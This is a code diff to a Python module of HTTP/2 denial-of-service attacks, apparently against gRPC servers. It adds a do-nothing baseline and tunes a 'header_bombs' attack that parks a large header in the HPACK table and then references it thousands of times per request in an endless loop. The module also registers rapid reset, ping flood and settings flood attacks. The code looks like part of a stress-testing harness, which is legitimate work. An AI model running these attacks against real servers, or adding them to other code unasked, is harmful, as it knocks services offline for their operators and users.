@@ -96,6 +96,10 @@ class Connection:
         frame.flags.add("END_HEADERS")
         return frame
 
+    def limit_table(self, size_bytes: int) -> None:
+        """Keep HPACK's table of what was sent to a size."""
+        self._encoder.header_table_size = size_bytes
+
     def close(self) -> None:
         """Leave without a word."""
         self._socket.close()
@@ -115,6 +119,11 @@ def data(stream_id: int, body: bytes, *, ends: bool = False) -> DataFrame:
 
 
 # Each attack yields after each blow; what it yields is how many frames or connections it was.
+
+
+def nothing(address: str) -> Iterator[int]:
+    """No attack, to compare with: one connection that says hello."""
+    yield from _hold(lambda: Connection(address), 1)
 
 
 def rapid_reset(address: str) -> Iterator[int]:
@@ -196,10 +205,13 @@ def large_metadata(address: str) -> Iterator[int]:
 def header_bombs(address: str) -> Iterator[int]:
     """A large header kept in HPACK's table, then named thousands of times in a few bytes."""
     connection = Connection(address)
-    frames = [connection.request(CHECK, extra=(("x-bomb", "a" * 3500),))]
+    # As much as the server's table holds; more would be an error, and end the connection.
+    connection.limit_table(1024)
+    bomb = ("x-bomb", "a" * 900)
+    frames = [connection.request(CHECK, extra=(bomb,))]
     connection.send(join([*frames, data(frames[0].stream_id, EMPTY_MESSAGE, ends=True)]))
     while True:
-        opened = connection.request(CHECK, extra=(("x-bomb", "a" * 3500),) * 3000)
+        opened = connection.request(CHECK, extra=(bomb,) * 3000)
         connection.send(join([opened, data(opened.stream_id, EMPTY_MESSAGE, ends=True)]))
         yield 1
 
@@ -305,6 +317,7 @@ def health_watches(address: str) -> Iterator[int]:
 ATTACKS: dict[str, Callable[[str], Iterator[int]]] = {
     attack.__name__: attack
     for attack in (
+        nothing,
         rapid_reset,
         ping_flood,
         settings_flood,
